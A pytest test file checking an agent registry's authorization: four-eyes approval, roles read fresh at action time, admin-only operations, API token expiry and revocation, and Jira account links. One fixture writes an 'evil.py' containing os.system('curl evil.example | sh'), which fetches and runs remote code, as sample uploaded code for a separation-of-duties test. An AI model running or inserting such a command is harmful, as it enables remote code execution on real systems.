"""Authority at the moment of action: four eyes, fresh roles, admin operations, tokens, links."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session

from core import auth, registry
from core.analytics import set_price
from core.cli import main
from core.db import get_engine, session_scope
from core.errors import NotFoundError, PermissionDeniedError, ValidationError
from core.models import ApiToken, Source, utcnow

CLI = Source.CLI


def _do(action, agent_id: int, actor: str, **kw):  # noqa: ANN001, ANN003
    with session_scope(write=True) as session:
        return action(session, agent_id=agent_id, actor_email=actor, source=CLI, **kw).status


def cli(capsys, *argv: str) -> tuple[int, str, str]:  # noqa: ANN001
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# --- four eyes -----------------------------------------------------------------------------


def test_the_editor_of_a_version_cannot_decide_it_another_approver_can(
    people, make_agent, tmp_path, capsys
):
    """An admin edits someone else's agent, uploading code: no role is exempt."""
    editor = "admin"
    agent = make_agent(people["developer"])
    code_file = tmp_path / "evil.py"
    code_file.write_text("import os\nos.system('curl evil.example | sh')\n")
    code, _, err = cli(
        capsys, "agents", "edit", str(agent.id), "--actor", people[editor], "--code-file",
        str(code_file),
    )  # fmt: skip
    assert code == 0, err
    _do(registry.submit_agent, agent.id, people["developer"])
    for decide in (registry.approve_agent, registry.reject_agent):
        with pytest.raises(PermissionDeniedError, match="authored version 1 .*edited, code"):
            _do(decide, agent.id, people[editor])
    code, _, err = cli(capsys, "agents", "approve", str(agent.id), "--actor", people[editor])
    assert code == 1 and "another approver must approve it" in err
    with session_scope() as session:
        viewer = auth.get_user(session, email=people[editor])
        reasons = registry.allowed_actions(registry.get_agent(session, agent_id=agent.id), viewer)
        assert "authored version 1" in reasons["approve"]
    assert _do(registry.approve_agent, agent.id, people["approver2"]) == "approved"
    with session_scope() as session:
        assert (
            registry.agent_status(session, agent_id=agent.id)["approved_by"]
            == (people["approver2"])
        )


def test_an_admin_who_submitted_someone_elses_agent_cannot_approve_it(people, make_agent):
    agent = make_agent(people["developer"])
    _do(registry.submit_agent, agent.id, people["admin"])
    with pytest.raises(PermissionDeniedError, match=r"authored version 1 .*\(submitted\)"):
        _do(registry.approve_agent, agent.id, people["admin"])
    assert _do(registry.approve_agent, agent.id, people["approver"]) == "approved"


def test_authorship_belongs_to_one_version(people, make_agent):
    """Who edited version 1 may decide version 2 if they did not touch it."""
    agent = make_agent(people["developer"])
    with session_scope(write=True) as session:
        registry.update_agent(
            session, agent_id=agent.id, actor_email=people["admin"], name="Edited", source=CLI
        )
    _do(registry.submit_agent, agent.id, people["developer"])
    assert _do(registry.reject_agent, agent.id, people["approver2"]) == "rejected"
    with session_scope(write=True) as session:  # the owner starts version 2
        registry.update_agent(
            session, agent_id=agent.id, actor_email=people["developer"], name="Fixed", source=CLI
        )
    _do(registry.submit_agent, agent.id, people["developer"])
    assert _do(registry.approve_agent, agent.id, people["admin"]) == "approved"


# --- roles read at the moment of action ----------------------------------------------------


def test_a_demoted_or_deactivated_approver_loses_power_at_once(people, make_agent):
    agent = make_agent(people["developer"])
    _do(registry.submit_agent, agent.id, people["developer"])
    with session_scope(write=True) as session:
        auth.set_role(session, email=people["approver"], role="developer")
        auth.set_active(session, email=people["approver2"], active=False)
    with pytest.raises(PermissionDeniedError, match="only approvers may approve"):
        _do(registry.approve_agent, agent.id, people["approver"])
    with pytest.raises(PermissionDeniedError, match="is deactivated"):
        _do(registry.approve_agent, agent.id, people["approver2"])


def test_the_actor_is_read_again_not_taken_from_the_session(people, make_agent):
    """A long-lived session that loaded the user earlier still sees a role changed since."""
    agent = make_agent(people["developer"])
    _do(registry.submit_agent, agent.id, people["developer"])
    with Session(get_engine(), expire_on_commit=False) as session:
        seen = auth.find_user(session, email=people["approver"])
        assert seen.role.value == "approver"
        session.commit()  # the loaded user stays in the session, attributes and all
        with session_scope(write=True) as other:
            auth.set_role(other, email=people["approver"], role="analyst")
        with pytest.raises(PermissionDeniedError, match="is a analyst|is an analyst"):
            registry.approve_agent(
                session, agent_id=agent.id, actor_email=people["approver"], source=CLI
            )
        assert seen.role.value == "analyst"  # the same object, refreshed by the check


def test_a_demoted_owner_can_no_longer_edit_or_submit(people, make_agent):
    agent = make_agent(people["developer"])
    with session_scope(write=True) as session:
        auth.set_role(session, email=people["developer"], role="analyst")
    with pytest.raises(PermissionDeniedError, match="analysts do not submit"):
        _do(registry.submit_agent, agent.id, people["developer"])


def test_admin_operations_check_the_acting_admin_now(people):
    admin, other = people["admin"], people["analyst"]
    with session_scope(write=True) as session:
        auth.set_role(session, email=other, role="developer", actor_email=admin)
        with pytest.raises(ValidationError, match="cannot demote yourself"):
            auth.set_role(session, email=admin, role="analyst", actor_email=admin)
        with pytest.raises(ValidationError, match="cannot deactivate yourself"):
            auth.set_active(session, email=admin, active=False, actor_email=admin)
        auth.set_role(session, email=admin, role="approver")  # another admin, from the shell
    refused = {
        "add users": lambda s: auth.create_user(
            s, email="new@example.com", name="New", role="admin", actor_email=admin
        ),
        "change roles": lambda s: auth.set_role(s, email=admin, role="admin", actor_email=admin),
        "activate": lambda s: auth.set_active(s, email=other, active=False, actor_email=admin),
        "create API tokens": lambda s: auth.create_api_token(s, name="t", created_by_email=admin),
        "set model prices": lambda s: set_price(
            s, model_pattern="gpt-x", usd_per_1k_tokens="1", actor_email=admin
        ),
    }
    for action, attempt in refused.items():
        with (
            pytest.raises(PermissionDeniedError, match=f"only admin accounts may {action}"),
            session_scope(write=True) as session,
        ):
            attempt(session)
    with pytest.raises(NotFoundError), session_scope(write=True) as session:
        auth.set_role(session, email=other, role="admin", actor_email="ghost@example.com")


# --- API tokens ----------------------------------------------------------------------------


def test_tokens_name_their_creator_and_die_with_the_account(people, capsys):
    code, out, err = cli(
        capsys,
        "tokens",
        "create",
        "--name",
        "gateway",
        "--created-by",
        people["admin"],
        "--expires-in",
        "30",
        "--json",
    )
    assert code == 0, err
    issued = json.loads(out)
    assert issued["created_by"] == people["admin"]
    assert issued["expires_at"] > (utcnow() + timedelta(days=29)).isoformat()
    with session_scope(write=True) as session:
        assert auth.verify_api_token(session, token=issued["token"]) is not None
    code, out, _ = cli(capsys, "tokens", "list", "--json")
    assert json.loads(out)[0]["created_by"] == people["admin"]

    assert cli(capsys, "users", "deactivate", "--email", people["admin"])[0] == 0
    with session_scope(write=True) as session:
        assert auth.verify_api_token(session, token=issued["token"]) is None


def test_expired_tokens_are_refused(db_url):
    with session_scope(write=True) as session:
        issued = auth.create_api_token(session, name="short", expires_in_days=1)
    with session_scope(write=True) as session:
        assert auth.verify_api_token(session, token=issued.token) is not None
        session.execute(
            update(ApiToken)
            .where(ApiToken.id == issued.id)
            .values(expires_at=utcnow() - timedelta(seconds=1))
        )
    with session_scope(write=True) as session:
        assert auth.verify_api_token(session, token=issued.token) is None


def test_token_creation_is_refused_for_non_admins_and_bad_expiry(people, capsys):
    code, _, err = cli(
        capsys, "tokens", "create", "--name", "x", "--created-by", people["developer"]
    )
    assert code == 1 and "only admin accounts may create API tokens" in err
    code, _, err = cli(capsys, "tokens", "create", "--name", "x", "--expires-in", "0")
    assert code == 1 and "expiry must be 1 to 3650 days" in err


# --- Jira account links --------------------------------------------------------------------


def test_link_jira_sets_replaces_and_keeps_one_account_per_id(people, capsys):
    code, out, err = cli(
        capsys,
        "users",
        "add",
        "--email",
        "jo@example.com",
        "--name",
        "Jo",
        "--role",
        "approver",
        "--no-password",
        "--jira-account-id",
        "557058:jo",
        "--json",
    )
    assert code == 0, err
    assert json.loads(out)["jira_account_id"] == "557058:jo"
    link = ("users", "link-jira", "--email", people["approver"], "--account-id")
    code, _, err = cli(capsys, *link, "557058:jo")
    assert code == 1 and "already linked to jo@example.com" in err
    code, out, err = cli(capsys, *link, "acc-1", "--json")
    assert code == 0 and json.loads(out)["jira_account_id"] == "acc-1"
    code, out, err = cli(capsys, *link, "acc-2")
    assert code == 0 and "approver@example.com is Jira account acc-2" in out
    code, _, err = cli(capsys, *link, "bad id with spaces")
    assert code == 1 and "Jira account id must be" in err
    code, _, err = cli(
        capsys, "users", "link-jira", "--email", "nobody@example.com", "--account-id", "x"
    )
    assert code == 1 and "no user with email nobody@example.com" in err
    code, out, _ = cli(capsys, "users", "list", "--json")
    links = {u["email"]: u["jira_account_id"] for u in json.loads(out)}
    assert links["approver@example.com"] == "acc-2" and links["jo@example.com"] == "557058:jo"
